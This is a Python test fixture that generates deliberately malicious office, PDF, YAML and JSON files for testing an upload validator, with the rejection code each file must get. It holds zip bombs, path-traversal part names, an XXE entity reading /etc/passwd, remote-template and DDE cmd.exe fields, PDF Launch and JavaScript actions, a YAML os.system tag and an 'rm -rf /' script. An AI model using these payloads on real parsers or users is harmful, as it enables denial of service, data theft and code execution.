"""Files built to harm a reader: one maker for each family, each with the finding it must get.

Every maker takes a good form and spoils it, so that a refusal is for the attack and not for an empty file.
"""

import io
import json
import struct
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

BIG = 30 * 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    """A file, the name it is dropped under, and the codes of which it must get one ("" = read without harm)."""

    title: str
    name: str
    content: bytes
    codes: tuple[str, ...]


def repacked(
    good: bytes,
    *,
    add: dict[str, bytes] | None = None,
    change: Callable[[str, bytes], bytes] | None = None,
    rename: dict[str, str] | None = None,
) -> bytes:
    """A zip with parts added (also a second time), changed or renamed."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(good)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target,
    ):
        for info in source.infolist():
            content = source.read(info)
            name = (rename or {}).get(info.filename, info.filename)
            target.writestr(name, change(info.filename, content) if change else content)
        for name, content in (add or {}).items():
            target.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED, compresslevel=1)
    return out.getvalue()


def in_part(part: str, old: bytes, new: bytes) -> Callable[[str, bytes], bytes]:
    """A change of one text in one part; it must be there."""

    def change(name: str, content: bytes) -> bytes:
        if name != part:
            return content
        assert old in content, f"{old!r} is not in {part}"
        return content.replace(old, new, 1)

    return change


def relation(kind: str, target: str, mode: str = "External") -> bytes:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    tag = f'<Relationship Id="rX1" Type="{office}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f"{tag}</Relationships>".encode()


def archives(xlsx: bytes, docx: bytes) -> Iterator[Hostile]:
    """Zip files that are not what they seem."""
    heavy = ("file.too-heavy",)
    yield Hostile(
        "bomb in a sheet", "a.xlsx", repacked(xlsx, add={"xl/sharedStrings9.xml": b"<a>" + b" " * BIG}), heavy
    )
    yield Hostile("bomb in a picture", "a.docx", repacked(docx, add={"word/media/x.png": bytes(BIG)}), heavy)
    many = {f"word/media/{at}.xml": b"<a/>" for at in range(2100)}
    yield Hostile("thousands of parts", "a.docx", repacked(docx, add=many), heavy)
    slow = b"<a>" + b"<b/>" * 900_000 + b"</a>"
    yield Hostile("a million elements", "a.docx", repacked(docx, add={"word/slow.xml": slow}), heavy)
    deep = b"<w:sdt>" * 5000 + b"</w:sdt>" * 5000 + b"<w:sectPr"
    damaged = (*heavy, "file.damaged")
    change = in_part("word/document.xml", b"<w:sectPr", deep)
    yield Hostile("deep document", "a.docx", repacked(docx, change=change), damaged)
    for name, part, spoiled in (
        ("a.docx", "word/styles.xml", docx),
        ("a.xlsx", "xl/styles.xml", xlsx),
        ("a.xlsx", "xl/workbook.xml", xlsx),
    ):
        change = in_part(part, b"</", b"<a>" * 5000 + b"</a>" * 5000 + b"</")
        yield Hostile(f"deep {part}", name, repacked(spoiled, change=change), (*damaged, ""))
    yield Hostile("size lie", "a.docx", _size_lie(repacked(docx, add={"word/lie.xml": b"<a>" + b"x" * 300_000})), (
        "file.damaged", "file.too-heavy"))  # fmt: skip
    tampered = ("file.tampered",)
    for name in ("../evil.xml", "/etc/evil.xml", "word/../../evil.xml", "C:/evil.xml", "..\\evil.xml"):
        yield Hostile(f"part {name}", "a.docx", repacked(docx, add={name: b"<a/>"}), tampered)
    for name in ("word/document.xml", "WORD/Document.xml", "word\\document.xml"):
        yield Hostile(f"twice {name}", "a.docx", _doubled(docx, name), tampered)
    yield Hostile("encrypted part", "a.docx", _flagged(docx), ("I04",))
    yield Hostile("truncated", "a.docx", docx[: len(docx) // 2], ("file.damaged",))
    yield Hostile("no content types", "a.docx", repacked(docx, rename={"[Content_Types].xml": "x.xml"}), ("I01",))
    yield Hostile("workbook named docx", "a.docx", xlsx, ("I02",))
    yield Hostile("plain zip named docx", "a.docx", _zip({"readme.txt": b"hello"}), ("I01",))
    yield Hostile("plain zip", "a.zip", _zip({"a.docx": docx}), ("I01",))


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name, content in parts.items():
            target.writestr(name, content)
    return out.getvalue()


def _doubled(good: bytes, name: str) -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return repacked(good, add={name: b"<evil/>"})


def _size_lie(content: bytes) -> bytes:
    """The last part claims to be ten bytes long in the directory."""
    at = content.rfind(b"PK\x01\x02")
    return content[: at + 24] + struct.pack("<I", 10) + content[at + 28 :]


def _flagged(content: bytes) -> bytes:
    """The first part claims to be encrypted."""
    at = content.find(b"PK\x01\x02")
    return content[: at + 8] + struct.pack("<H", 1) + content[at + 10 :]


def markup(xlsx: bytes, docx: bytes) -> Iterator[Hostile]:
    """XML that does more than hold text."""
    doctype = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    outside = '<!DOCTYPE x SYSTEM "file:///etc/passwd">'
    for title, declared in (("entities", doctype), ("external entity", outside), ("bare", "<!DOCTYPE x>")):
        utf16 = f'<?xml version="1.0" encoding="UTF-16"?>{declared}<x/>'.encode("utf-16")
        yield Hostile(
            f"doctype {title} UTF-16", "a.docx", repacked(docx, add={"word/x.xml": utf16}), ("file.tampered",)
        )
        plain = f'\ufeff<?xml version="1.0"?>\n{declared}<x/>'.encode()
        for part in ("word/x.xml", "word/_rels/x.xml.rels", "word/x.dat"):
            yield Hostile(f"doctype {title} {part}", "a.docx", repacked(docx, add={part: plain}), ("file.tampered",))
    types = in_part("[Content_Types].xml", b"<Types", b"<!DOCTYPE Types><Types")
    yield Hostile("doctype in content types", "a.xlsx", repacked(xlsx, change=types), ("file.tampered",))
    rels, end = "word/_rels/document.xml.rels", b"</Relationships>"
    for kind, target in (
        ("attachedTemplate", "http://203.0.113.9/evil.dotm"),
        ("attachedTemplate", "file://server/share/evil.dotm"),
        ("attachedTemplate", "\\\\server\\share\\evil.dotm"),
        ("image", "https://203.0.113.9/pixel.png"),
        ("frame", "http://203.0.113.9/x"),
        ("subDocument", "http://203.0.113.9/x"),
    ):
        change = in_part(rels, end, relation(kind, target))
        yield Hostile(f"{kind} {target}", "a.docx", repacked(docx, change=change), ("file.external-link",))
    for kind in ("oleObject", "aFChunk", "package", "control"):
        change = in_part(rels, end, relation(kind, "embeddings/x.bin", "Internal"))
        yield Hostile(f"internal {kind}", "a.docx", repacked(docx, change=change), ("file.embedded-object",))
    for title, field in (
        ("DDE in one run", b"<w:instrText>DDEAUTO c:\\windows\\cmd.exe</w:instrText>"),
        ("DDE in pieces", b"<w:instrText> DD</w:instrText></w:r><w:r><w:instrText>E cmd</w:instrText>"),
        ("included text", b"<w:instrText>INCLUDETEXT &quot;http://203.0.113.9&quot;</w:instrText>"),
    ):
        change = in_part("word/document.xml", b"<w:sectPr", b"<w:p><w:r>" + field + b"</w:r></w:p><w:sectPr")
        yield Hostile(title, "a.docx", repacked(docx, change=change), ("file.external-link",))
    simple = b'<w:p><w:fldSimple w:instr="DDE cmd x"/></w:p><w:sectPr'
    change = in_part("word/document.xml", b"<w:sectPr", simple)
    yield Hostile("DDE simple field", "a.docx", repacked(docx, change=change), ("file.external-link",))
    yield Hostile("broken XML", "a.docx", repacked(docx, change=in_part("word/document.xml", b"</w:body>", b"")), (
        "file.damaged",))  # fmt: skip


def carried(xlsx: bytes, docx: bytes) -> Iterator[Hostile]:
    """Programs and files inside a document."""
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    yield Hostile("macro in docx", "a.docx", repacked(docx, add={"word/vbaProject.bin": ole}), ("I05",))
    yield Hostile("macro in xlsx", "a.xlsm", repacked(xlsx, add={"xl/vbaProject.bin": ole}), ("I05",))
    yield Hostile("old macro sheet", "a.xlsx", repacked(xlsx, add={"xl/macrosheets/sheet1.xml": b"<a/>"}), ("I05",))
    types = in_part("[Content_Types].xml", b"wordprocessingml.document.main+xml", b"macroEnabled.main+xml")
    yield Hostile("macro by type only", "a.docx", repacked(docx, change=types), ("I05", "I01"))
    embedded = ("file.embedded-object",)
    yield Hostile("OLE object", "a.docx", repacked(docx, add={"word/embeddings/o1.bin": ole}), embedded)
    yield Hostile("OLE as a picture", "a.docx", repacked(docx, add={"word/media/i1.png": ole}), embedded)
    yield Hostile(
        "program as a picture", "a.xlsx", repacked(xlsx, add={"xl/media/i1.png": b"MZ" + bytes(99)}), embedded
    )
    yield Hostile(
        "connection", "a.xlsx", repacked(xlsx, add={"xl/connections.xml": b"<a/>"}), ("file.external-link",)
    )
    link = {"xl/externalLinks/externalLink1.xml": b'<e><ddeLink ddeService="cmd"/></e>'}
    yield Hostile("DDE link", "a.xlsx", repacked(xlsx, add=link), ("file.external-link",))


def sheets(xlsx: bytes) -> Iterator[Hostile]:
    """Sheets that claim or are of absurd size."""
    part, end = "xl/worksheets/sheet1.xml", b"</sheetData>"
    far = b'<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData>'
    yield Hostile(
        "a cell at the far corner", "a.xlsx", repacked(xlsx, change=in_part(part, end, far)), ("file.too-heavy",)
    )
    for tag in (
        b'<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        b'<hyperlinks><hyperlink ref="A1:XFD1048576"/></hyperlinks>',
    ):
        change = in_part(part, end, end + tag)
        yield Hostile(tag[:12].decode(), "a.xlsx", repacked(xlsx, change=change), ("file.too-heavy",))
    spread = b"".join(b'<row r="%d"><c r="ND%d" t="n"><v>1</v></c></row>' % (at, at) for at in (19_000, 19_001))
    yield Hostile(
        "cells far apart", "a.xlsx", repacked(xlsx, change=in_part(part, end, spread + end)), ("file.too-heavy",)
    )
    lie = in_part(part, b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>')
    yield Hostile("dimension lie", "a.xlsx", repacked(xlsx, change=lie), ("",))


def texts() -> Iterator[Hostile]:
    """YAML and JSON that explode, hide or contradict themselves."""
    for title, text in (
        ("alias", "kind: dang-ky\na: &a [x, x]\nb: *a\n"),
        ("merge", "x: &x {a: 1}\ny:\n  <<: *x\n"),
        ("tag", "kind: !!python/name:os.system dang-ky\n"),
        ("own tag", "kind: !boom dang-ky\n"),
        ("double key", "unit_code: CATP\nunit_code: KNH\n"),
        ("deep flow", "a: " + "[" * 5000 + "]" * 5000),
        ("deep block", "\n".join(" " * at + "- a:" for at in range(60))),
        ("two documents", "kind: dang-ky\n---\nkind: ke-hoach\n"),
        ("broken", "kind: [dang-ky\n"),
        ("tab", "kind:\n\tx: 1\n"),
        ("NUL", "kind: dang-ky\nunit_code: CA\x00TP\n"),
    ):
        yield Hostile(f"yaml {title}", "a.yaml", text.encode(), ("file.yaml",))
    yield Hostile("yaml not UTF-8", "a.yaml", b"kind: \xff\xfe\xfa", ("file.yaml",))
    for title, text in (
        ("deep array", "[" * 200_000),
        ("deep object", '{"a":' * 100_000),
        ("double key", '{"kind": "dang-ky", "unit_code": "CATP", "unit_code": "KNH"}'),
        ("NaN", '{"kind": "dang-ky", "headcount": NaN}'),
        ("infinity", '{"kind": "dang-ky", "headcount": -Infinity}'),
        ("huge number", '{"kind": "dang-ky", "headcount": ' + "9" * 5000 + "}"),
        ("cut off", '{"kind": "dang-ky", "unit_code": "CA'),
        ("more after the end", '{"kind": "dang-ky"} {"a": 1}'),
        ("single quotes", "{'kind': 'dang-ky'}"),
    ):
        yield Hostile(f"json {title}", "a.json", text.encode(), ("file.json",))
    for title, character in (("surrogate", "\ud800"), ("override", "\u202e"), ("bell", "\u0007"), ("NUL", "\u0000")):
        text = json.dumps({"kind": "dang-ky", "unit_code": "CATP", "leader": {"full_name": f"A{character} B"}})
        yield Hostile(f"json {title}", "a.json", text.encode(), ("text.forbidden-character",))


def named_otherwise(docx: bytes, pdf: bytes) -> Iterator[Hostile]:
    """Files that are not what their name says, or are nothing at all."""
    for extension in ("docx", "xlsx", "pdf"):
        yield Hostile(f"program named {extension}", f"a.{extension}", b"MZ" + bytes(500), ("I02", "I01"))
        yield Hostile(f"page named {extension}", f"a.{extension}", b"<html><body>x</body></html>", ("I02",))
        yield Hostile(f"noise named {extension}", f"a.{extension}", bytes(range(1, 256)) * 9, ("I02",))
        yield Hostile(f"nothing named {extension}", f"a.{extension}", b"", ("file.empty",))
        yield Hostile(f"zeros named {extension}", f"a.{extension}", bytes(4096), ("file.empty",))
    yield Hostile("pdf named docx", "a.docx", pdf, ("I02",))
    yield Hostile("docx named pdf", "a.pdf", docx, ("I02",))
    yield Hostile("docx named json", "a.json", docx, ("I02",))
    yield Hostile("old Word", "a.doc", ole("WordDocument", stream=WORD), ("I01",))
    yield Hostile("old Excel", "a.xls", ole("Workbook", stream=BOOK), ("I01",))
    yield Hostile("password", "a.docx", ole("EncryptionInfo", "EncryptedPackage"), ("I04",))
    yield Hostile("rich text", "a.rtf", b"{\\rtf1 hello}", ("I01",))
    yield Hostile("photo", "a.jpg", b"\xff\xd8\xff\xe0" + bytes(100), ("I01",))
    yield Hostile("photo named docx", "a.docx", b"\xff\xd8\xff\xe0" + bytes(100), ("I01", "I02"))
    yield Hostile("plain text", "a.txt", b"hello", ("I01",))
    yield Hostile("script", "a.sh", b"#!/bin/sh\nrm -rf /\n", ("I01",))
    yield Hostile("rar", "a.rar", b"Rar!\x1a\x07\x00", ("I01",))


#: What the streams of an old Word file and of an old Excel file begin with.
WORD, BOOK = b"\xec\xa5\xc1\0" + bytes(6), b"\x09\x08\x10\0\0\x06\x05\0" + bytes(12)


_NONE, _END, _FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def ole(*names: str, stream: bytes = b"") -> bytes:
    """An OLE2 file: a sector of its allocation table, the directory, and one stream that all its names share."""
    content = stream.ljust(4096, b"\0")  # a shorter one would lie in the "mini stream"
    begin = 1 + -(-(len(names) + 1) // 4)
    entries = [_entry("Root Entry", kind=5, child=1 if names else _NONE, start=_END)]
    for at, name in enumerate(sorted(names, key=lambda name: (len(name), name.upper())), start=1):
        right = at + 1 if at < len(names) else _NONE
        entries.append(_entry(name, right=right, start=begin, size=len(content)))
    directory = b"".join(entries).ljust(512 * (begin - 1), b"\0")
    sectors = len(content) // 512
    chains = [_FAT, *range(2, begin), _END, *range(begin + 1, begin + sectors), _END]
    table = struct.pack("<128I", *chains, *[_NONE] * (128 - len(chains)))
    return _head() + table + directory + content


def _head() -> bytes:
    figures = (0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096, _END, 0, _END, 0, 0, *[_NONE] * 108)
    return struct.pack("<8s16s5H6x9I109I", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", bytes(16), *figures)


def _entry(
    name: str, *, kind: int = 2, child: int = _NONE, right: int = _NONE, start: int = _END, size: int = 0
) -> bytes:
    written = name.encode("utf-16-le")
    figures = (len(written) + 2, kind, 1, _NONE, right, child, bytes(16), 0, start, size)
    return struct.pack("<64sHBB3I16sI16xIQ", written, *figures)


def odf(parts: dict[str, bytes], kind: str = "text") -> bytes:
    """An OpenDocument file: its mimetype first and stored, then the parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target:
        target.writestr("mimetype", f"application/vnd.oasis.opendocument.{kind}", zipfile.ZIP_STORED)
        for name, content in parts.items():
            target.writestr(name, content)
    return out.getvalue()


def old_formats() -> Iterator[Hostile]:
    """Word 97, Excel 97, RTF and OpenDocument files that are locked, armed, hollow or not what they seem."""
    locked = WORD + struct.pack("<H", 0x0100)
    yield Hostile("locked .doc", "a.doc", ole("WordDocument", stream=locked), ("I04",))
    filepass = BOOK + struct.pack("<HH", 0x2F, 6) + bytes(6)
    yield Hostile("locked .xls", "a.xls", ole("Workbook", stream=filepass), ("I04",))
    yield Hostile("records without end", "a.xls", ole("Workbook", stream=BOOK[:2] * 500), ("I01",))
    yield Hostile("macro .doc", "a.doc", ole("WordDocument", "Macros", "_VBA_PROJECT", stream=WORD), ("I05",))
    yield Hostile("macro .xls", "a.xls", ole("Workbook", "_VBA_PROJECT_CUR", "_VBA_PROJECT", stream=BOOK), ("I05",))
    yield Hostile("head of an old file only", "a.doc", ole()[:600], ("file.damaged",))
    yield Hostile("presentation named doc", "a.doc", ole("PowerPoint Document"), ("I02",))
    yield Hostile("Word named xls", "a.xls", ole("WordDocument", stream=WORD), ("I02",))
    yield Hostile("Word named docx", "a.docx", ole("WordDocument", stream=WORD), ("I02",))
    yield Hostile("page of the web named xls", "a.xls", b"<html><table/></html>", ("I02",))
    yield Hostile("rich text without end", "a.rtf", b"{\\rtf1 " + b"{" * 1_000_000, ("file.too-heavy",))
    yield Hostile("locked .odt", "a.odt", odf({"META-INF/manifest.xml": b"<m><encryption-data/></m>"}), ("I04",))
    yield Hostile("macro .ods", "a.ods", odf({"Basic/Standard/Module1.xml": b"<x/>"}, "spreadsheet"), ("I05",))
    yield Hostile("bomb .odt", "a.odt", odf({"content.xml": b"<a>" + b" " * BIG}), ("file.too-heavy",))
    yield Hostile("document named ods", "a.ods", odf({"content.xml": b"<a/>"}), ("I02",))


def pdfs(pdf: bytes) -> Iterator[Hostile]:
    """PDF files that run, carry, loop or lie."""
    program = ("file.program",)
    for title, action in (
        ("JavaScript", "<</S/JavaScript/JS(app.alert)>>"),
        ("Launch", "<</S/Launch/F(calc.exe)>>"),
        ("SubmitForm", "<</S/SubmitForm/F(http://203.0.113.9)>>"),
        ("ImportData", "<</S/ImportData/F(x.fdf)>>"),
        ("GoToE", "<</S/GoToE/F(x.pdf)>>"),
    ):
        yield Hostile(f"open action {title}", "a.pdf", small(f"/OpenAction {action}"), program)
        yield Hostile(f"page action {title}", "a.pdf", small(page=f"/AA<</O {action}>>"), program)
        nested = f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoTo/D[3 0 R]/Next {action}>>>>]"
        yield Hostile(f"chained action {title}", "a.pdf", small(page=nested), program)
    yield Hostile("script names", "a.pdf", small("/Names<</JavaScript<</Names[(a)<</JS(1)>>]>>>>"), program)
    yield Hostile("XFA", "a.pdf", small("/AcroForm<</Fields[]/XFA[(a)(b)]>>"), program)
    attached = ("file.embedded-object",)
    yield Hostile(
        "attachment", "a.pdf", small("/Names<</EmbeddedFiles<</Names[(a)<</EF<</F 3 0 R>>>>]>>>>"), attached
    )
    note = "/Annots[<</Type/Annot/Subtype/FileAttachment/FS<</EF<</F 3 0 R>>>>>>]"
    yield Hostile("attachment on a page", "a.pdf", small(page=note), attached)
    yield Hostile("encrypted", "a.pdf", _encrypted(pdf, "x"), ("I04",))
    yield Hostile("pages in a ring", "a.pdf", small(kids="[2 0 R]"), ("file.tampered",))
    yield Hostile("pages in a wide ring", "a.pdf", small(kids="[3 0 R 3 0 R]"), ("file.tampered",))
    for title, box in (("huge", "0 0 3000000 10"), ("flat", "0 0 0 0"), ("negative", "-90000 0 90000 9")):
        yield Hostile(f"{title} page", "a.pdf", small(box=box), ("file.too-heavy",))
    yield Hostile("huge unit", "a.pdf", small(page="/UserUnit 9000"), ("file.too-heavy",))
    for title, opening, closing in (("arrays", "[", "]"), ("dictionaries", "<</A", ">>")):
        deep = opening * 60_000 + closing * 60_000
        yield Hostile(f"nested {title}", "a.pdf", small(f"/X {deep}"), ("file.too-heavy", "file.damaged", "A07"))
    thousand = f"[{'null ' * 1000}]"
    yield Hostile("more objects than any form has", "a.pdf", small(f"/X [{thousand * 302}]"), ("file.too-heavy",))
    yield Hostile("many objects, but not too many", "a.pdf", small(f"/X [{thousand * 297}]"), ("A07",))
    ring = small()
    at = ring.rfind(b"xref\n0")
    for title, previous in (("itself", at), ("a ring of two", at)):
        looped = ring.replace(b"/Root", b"/Prev %d/Root" % previous)
        yield Hostile(f"tables leading to {title}", "a.pdf", looped, ("file.doubtful",))
    for count in ("1000000000", "-5", "0"):
        yield Hostile(f"count {count}", "a.pdf", small(count=count), ("A07",))
    yield Hostile("cut off", "a.pdf", pdf[: len(pdf) // 3], ("file.damaged", "A07", "pdf.no-form"))
    yield Hostile("only a head", "a.pdf", b"%PDF-1.7\n", ("file.damaged",))
    yield Hostile("control character in a field", "a.pdf", _field(pdf, "A\x00B"), ("text.forbidden-character",))


def small(
    catalog: str = "", *, page: str = "", box: str = "0 0 595 842", kids: str = "[3 0 R]", count: str = "1"
) -> bytes:
    """A PDF of one empty page, written by hand."""
    objects = [
        f"<</Type/Catalog/Pages 2 0 R{catalog}>>",
        f"<</Type/Pages/Kids{kids}/Count {count}>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]{page}>>",
    ]
    out, offsets = b"%PDF-1.7\n", []
    for number, text in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{text}\nendobj\n".encode()
    start = len(out)
    table = "".join(f"{offset:010d} 00000 n \n" for offset in offsets)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}".encode()
    return out + f"trailer\n<</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF\n".encode()


def _encrypted(pdf: bytes, password: str) -> bytes:
    writer = PdfWriter(io.BytesIO(pdf))
    writer.encrypt(password, owner_password="owner", algorithm="RC4-128")  # noqa: S106 - a test's
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _field(pdf: bytes, text: str) -> bytes:
    writer = PdfWriter(io.BytesIO(pdf))
    for annotation in writer.pages[0].annotations or ():
        field = annotation.get_object()
        if isinstance(field, DictionaryObject) and field.get("/T") == "submit_doc_no":
            field[NameObject("/V")] = TextStringObject(text)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
